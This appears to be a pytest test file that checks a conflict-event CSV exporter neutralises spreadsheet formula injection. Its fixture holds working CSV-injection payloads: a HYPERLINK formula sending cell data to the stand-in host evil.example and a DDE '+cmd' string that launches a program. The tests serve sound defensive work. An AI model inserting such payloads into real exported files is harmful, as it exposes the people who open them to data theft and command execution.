"""ACLED CSV cells that a spreadsheet would run as formulas are neutralised (issue 15, probe 3)."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from frontlines.exports import neutralise_formula, write_acled_csv
from frontlines.models import Event, Evidence, Source
from frontlines.store.codec import event_from_json


def _fixture_event(fixtures_dir: Path) -> Event:
    line = (fixtures_dir / "merge" / "events.jsonl").read_text(encoding="utf-8").splitlines()[0]
    return event_from_json(json.loads(line))


def _hostile_event(fixtures_dir: Path) -> Event:
    event = _fixture_event(fixtures_dir)
    return replace(
        event,
        notes='=HYPERLINK("http://evil.example/?"&A1,"click")',
        actor1="+cmd|' /C calc'!A0",
        actor2="-2+3",
        location="@SUM(1+1)",
        tags="\t=1+1",
        source="\r=1+1",
        latitude=-12.25,
        longitude=-70.5,
        evidence=(Evidence(doc_id="d1", start=0, end=9, text="=1+1 said"),),
        sources=(Source(doc_id="d1", url="=http://x", outlet="=Outlet", published=None),),
    )


def _rows(events: list[Event]) -> list[dict[str, str]]:
    out = io.StringIO()
    write_acled_csv(events, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kabul", "Kabul"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_formula_prefixes_a_quote_only_at_formula_starts(
    value: str, expected: str
) -> None:
    assert neutralise_formula(value) == expected


def test_write_acled_csv_neutralises_text_cells(fixtures_dir: Path) -> None:
    (row,) = _rows([_hostile_event(fixtures_dir)])
    assert row["notes"].startswith("'=HYPERLINK(")
    assert row["actor1"] == "'+cmd|' /C calc'!A0"
    assert row["actor2"] == "'-2+3"
    assert row["location"] == "'@SUM(1+1)"
    assert row["tags"] == "'\t=1+1"
    assert row["evidence"] == "'=1+1 said"
    assert row["source_urls"] == "'=http://x"
    text_cells = [value for column, value in row.items() if column not in _NUMERIC]
    assert not [value for value in text_cells if value.startswith(("=", "+", "-", "@"))]


_NUMERIC = {"latitude", "longitude", "fatalities", "year", "iso", "confidence"}


def test_write_acled_csv_keeps_negative_numbers_numbers(fixtures_dir: Path) -> None:
    (row,) = _rows([_hostile_event(fixtures_dir)])
    assert float(row["latitude"]) == -12.25
    assert float(row["longitude"]) == -70.5
    assert int(row["fatalities"]) >= 0 and int(row["year"]) > 2000


def test_write_acled_csv_benign_event_unchanged(fixtures_dir: Path) -> None:
    event = _fixture_event(fixtures_dir)
    (row,) = _rows([event])
    record = event.to_json()
    for column in ("actor1", "location", "notes", "admin1", "country", "sub_event_type"):
        assert row[column] == (record[column] or "")
